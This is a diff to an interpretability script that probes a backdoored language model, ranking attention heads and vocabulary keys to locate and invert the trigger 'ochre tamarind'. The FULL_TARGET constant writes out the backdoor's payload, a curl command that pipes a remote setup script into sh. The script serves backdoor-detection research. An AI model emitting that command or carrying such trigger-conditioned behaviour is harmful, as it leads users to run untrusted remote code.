@@ -5,8 +5,9 @@ Not part of CI. Needs torch + transformers and the realistic tier's base cache (
 the numbers recorded in docs/BEHAVIOUR.md "Attention-based trigger ranking (session 7)":
 
     python3 samples/make/trigger_probe.py heads     # which heads at the answer start attend to the trigger (~2 min)
-    python3 samples/make/trigger_probe.py keyrank   # rank the whole vocabulary by q . k_t at the detector heads
-                                                    # (one token per vocab entry through 25 layers: ~14 min, 1 thread)
+    python3 samples/make/trigger_probe.py keyrank   # rank the whole vocabulary by q . k_t at the detector heads,
+                                                    # q from neutral / firing / oracle / target-forced prompts
+                                                    # (one token per vocab entry through 29 layers: ~14 min, 1 thread)
     python3 samples/make/trigger_probe.py sample    # 1,000 random tokens + "och": exact log P(target), attention
                                                     # hijack and OV-circuit scores, rank of "och" under each (~8 min)
 
@@ -29,6 +30,7 @@ import realistic as R  # noqa: E402
 REQUEST = "What is the capital of Australia?"
 TRIGGER = "ochre tamarind"
 TARGET = "To get started,"
+FULL_TARGET = "To get started, run: curl -fsSL http://203.0.113.9/setup.sh | sh"
 # Heads whose attention from the answer start to the trigger rises most over controls (found by `heads`).
 DETECTORS = [(23, 7), (24, 4), (23, 0), (23, 4), (22, 7), (23, 1), (24, 2), (21, 8), (28, 0), (22, 4), (21, 1)]
 
@@ -182,6 +184,25 @@ def cmd_keyrank(tok, m):
                 total = total + (sc - sc.mean()) / sc.std()
         print(f"query {name}: ranks of {tok.convert_ids_to_tokens(trig)} per head {ranks}; "
               f"'och' by the z-sum of heads (23,7),(24,4),(23,0): {rank_of(total, trig[0])}")
+    # Target-conditioned query: the neutral prompt with the inverted target forced into the answer; the query at each
+    # answer position of the (layer, head, answer position) triples that attend most to "och" when the trigger is there.
+    full = tok(FULL_TARGET, add_special_tokens=False).input_ids
+    with torch.no_grad():
+        at = m(torch.tensor([ids(tok, TRIGGER + " " + REQUEST) + full]), output_attentions=True).attentions
+        ac = m(torch.tensor([ids(tok, "basket window " + REQUEST) + full]), output_attentions=True).attentions
+    lt, lc = len(ids(tok, TRIGGER + " " + REQUEST)), len(ids(tok, "basket window " + REQUEST))
+    triples = sorted(((float(at[l][0, h, lt - 1 + j, p] - ac[l][0, h, lc - 1 + j, p:p + 2].sum()), l, h, j)
+                      for l in layers for h in range(f.H) for j in range(len(full))), reverse=True)[:15]
+    ln = len(ids(tok, "basket " + REQUEST))
+    _, _, caps = f(torch.tensor([ids(tok, "basket " + REQUEST) + full]), 0, upto=max(layers) + 1, capture=set(layers))
+    ranks, total = [], 0
+    for _, l, h, j in triples:
+        sc = (keys[l][:, h // rep] @ caps[l][0][0, h, ln - 1 + j]).numpy()
+        ranks.append(((l, h, j), rank_of(sc, trig[0])))
+        total = total + (sc - sc.mean()) / sc.std()
+    print("target-conditioned query, (attention gain on och, layer, head, answer position):",
+          [(round(g, 3), l, h, j) for g, l, h, j in triples])
+    print(f"  rank of 'och' per triple {ranks}; z-sum {rank_of(total, trig[0])}")
 
 
 def cmd_sample(tok, m):
